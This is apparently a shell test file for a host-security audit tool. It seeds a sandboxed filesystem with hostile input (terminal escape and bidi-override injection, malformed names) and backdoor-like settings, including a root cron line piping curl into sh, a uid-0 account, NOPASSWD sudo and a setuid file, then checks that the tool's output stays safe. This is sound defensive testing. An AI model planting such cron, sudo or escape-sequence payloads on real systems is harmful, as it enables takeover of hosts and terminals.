# SPDX-License-Identifier: GPL-3.0-or-later
# What others wrote never reaches a terminal raw, and JSON and CSV stay valid: escapes, bidirectional
# overrides, invalid UTF-8, line feeds and NUL in names of hosts, accounts, files and in settings.
. ./lib.sh
machine m
nasty=$(printf 'e\033[2J\033]0;owned\007v\302\233i\342\200\256l\377\t"\\x\177')
printf '%s\n' "$nasty" >"$ROOT/etc/hostname"
printf 'PRETTY_NAME="%s"\nID=debian\n' "$nasty" >"$ROOT/etc/os-release"
{
	printf 'root:x:0:0:root:/root:/bin/sh\n'
	printf '%s:x:0:0:%s:/home/%s:/bin/%s\n' "$nasty" "$nasty" "$nasty" "$nasty"
	printf 'nul\000name:x:0:0::/:/bin/sh\n'
	printf 'cr\r:x:1:1::/:/bin/sh\r\n'
} >"$ROOT/etc/passwd"
mkdir -p "$ROOT/tmp" "$ROOT/etc/ssh/sshd_config.d" "$ROOT/etc/cron.d" "$ROOT/root/.ssh"
bad="$ROOT/tmp/$nasty
line"
: >"$bad"
chmod 6777 "$bad"
cp -p "$bad" "$ROOT/etc/cron.d/$(printf 'x\033[31m')"
printf 'PermitRootLogin yes\nBanner %s\nMatch User "%s"\nPasswordAuthentication yes\n' \
	"$nasty" "$nasty" >"$ROOT/etc/ssh/sshd_config"
printf 'from="%s" ssh-ed25519 AAAA %s\n' "$nasty" "$nasty" >"$ROOT/root/.ssh/authorized_keys"
printf '* * * * * root curl http://%s | sh\n' "$nasty" >"$ROOT/etc/cron.d/job"
printf '%s ALL=(ALL) NOPASSWD: ALL\n' "$nasty" >"$ROOT/etc/sudoers"
check hostile high <<E
SELECT username AS resource, 0 AS healthy, description || shell AS evidence,
       'fix ' || directory AS fix FROM users
 UNION ALL SELECT path, 0, path, path FROM file_findings
E
cat >"$TMP/safe.py" <<'E'
# Every character is printable or a line feed; what looks like an escape was written by us.
import re, sys, unicodedata
colour = sys.argv[2:] == ["colour"]
data = open(sys.argv[1], "rb").read()
text = data.decode("utf-8")
if colour:
    text = re.sub("\033\\[(0|1|2|3[1236])m", "", text)
bad = {c for c in text if c != "\n" and (unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp"))}
sys.exit("%r" % bad if bad else 0)
E
safe() { expect "  is safe to show" python3 "$TMP/safe.py" "$TMP/out" "$@"; }
assess() { hf assess --root "$ROOT" --no-state --checks "$CHECKS" "$@"; }

exits 0 "text" assess --all
safe
prints 'e\x1B[2J\x1B]0;owned\x07v\u{009B}i\u{202E}l\'
cp "$TMP/err" "$TMP/out"
safe
exits 0 "JSON" assess -f json
expect "is ASCII" sh -c "! LC_ALL=C grep -q '[^ -~]' '$TMP/out'"
report 'len([x for x in f if x["check"] == "hostile"]) >= 4'
report '"\x1b[2J" in r["host"]["hostname"] and "\u202e" in r["host"]["hostname"]'
expect "what is no UTF-8 is kept as an escape" grep -qF '\\xff' "$TMP/out"
for id in hostile acct-uid0 ssh-root-login; do
	exits 0 "explain $id" hf explain --root "$ROOT" --checks "$CHECKS" $id
	safe
done
for table in users host_info os_version file_findings sshd_config crontab authorized_keys sudo_rules; do
	exits 0 "table $table" hf query --root "$ROOT" "SELECT * FROM $table"
	safe
	exits 0 "list $table" hf query --root "$ROOT" -f list "SELECT * FROM $table"
	safe
	rows=$(hf query --root "$ROOT" -f list "SELECT count(*) FROM $table")
	expect "  one line a row ($rows)" test "$(wc -l <"$TMP/out")" = "$rows"
	exits 0 "JSON $table" hf query --root "$ROOT" -f json "SELECT * FROM $table"
	expect "  is valid" python3 -c "
import json
assert len(json.load(open('$TMP/out', encoding='ascii'))) == $rows"
	exits 0 "CSV $table" hf query --root "$ROOT" -f csv "SELECT * FROM $table"
	expect "  is valid" python3 -c "
import csv
rows = list(csv.reader(open('$TMP/out', newline='', encoding='utf-8'), strict=True))
assert len(rows) == $rows + 1 and len({len(r) for r in rows}) == 1, rows"
done
exits 0 "JSON of what is no JSON" hf query --root "$ROOT" -f json \
	"SELECT 9e999 AS inf, x'ff00' AS blob, char(55296) AS half, 1 AS a, 2 AS a, NULL AS n"
expect "is valid" python3 -c "
import json
d = json.load(open('$TMP/out'))
assert d[0]['inf'] is None and d[0]['n'] is None and 'half' in d[0], d"
if script -qec true /dev/null >/dev/null 2>&1 </dev/null; then
	for verb in "assess --root '$ROOT' --no-state --checks '$CHECKS' --all" \
		"explain --root '$ROOT' --checks '$CHECKS' hostile" \
		"query --root '$ROOT' 'SELECT * FROM users'" \
		"query --root '$ROOT' -f csv 'SELECT * FROM users'" \
		"query --root '$ROOT' -f list 'SELECT * FROM users'"; do
		TERM=xterm script -qec "'$HOLDFAST' $verb" /dev/null </dev/null >"$TMP/raw"
		tr -d '\r' <"$TMP/raw" | sed 's/\x1b\[K//g' >"$TMP/out"
		result 0 "on a terminal: ${verb%% *}"
		safe colour
	done
fi
exits 0 "facts" hf collect --root "$ROOT" -o "$TMP/f"
exits 0 "from facts" hf assess --facts "$TMP/f" --checks "$CHECKS" --all
safe
exits 3 "names of files in errors" hf assess --facts "$TMP/$nasty" --no-state
cp "$TMP/err" "$TMP/out"
safe
cp "$CHECKS/hostile.sql" "$CHECKS/$(printf 'b\033[31m').sql"
echo "-- x" >>"$CHECKS/$(printf 'b\033[31m').sql"
printf -- '-- id: %s\n' "$nasty" >"$CHECKS/c.sql"
exits 0 "broken checks" assess --check hostile
cp "$TMP/err" "$TMP/out"
safe
cat >"$TMP/e.yaml" <<E
exemptions:
  - {check: hostile, kind: waiver, expires: 2999-01-01,
     reason: "a\e[31mb\u202Ec\nd", owner: "\a\u009B"}
E
exits 0 "exemptions" assess --check hostile --exemptions "$TMP/e.yaml"
safe
exits 0 "exemptions as JSON" assess --check hostile --exemptions "$TMP/e.yaml" -f json
report 'r["exemptions"][0]["reason"] == "a\x1b[31mb\u202ec\nd"'
long=$(head -c 100000 /dev/zero | tr '\0' A)
printf 'root:x:0:0:root:/root:/bin/sh\n%s:x:1:1:%s:/:/bin/sh\n' "$long" "$long" >"$ROOT/etc/passwd"
printf '%s\n' "$long" >"$ROOT/etc/hostname"
exits 0 "long lines" assess --all
exits 0 "long lines as JSON" assess -f json
report 'r["host"]["live"] is False'
finish
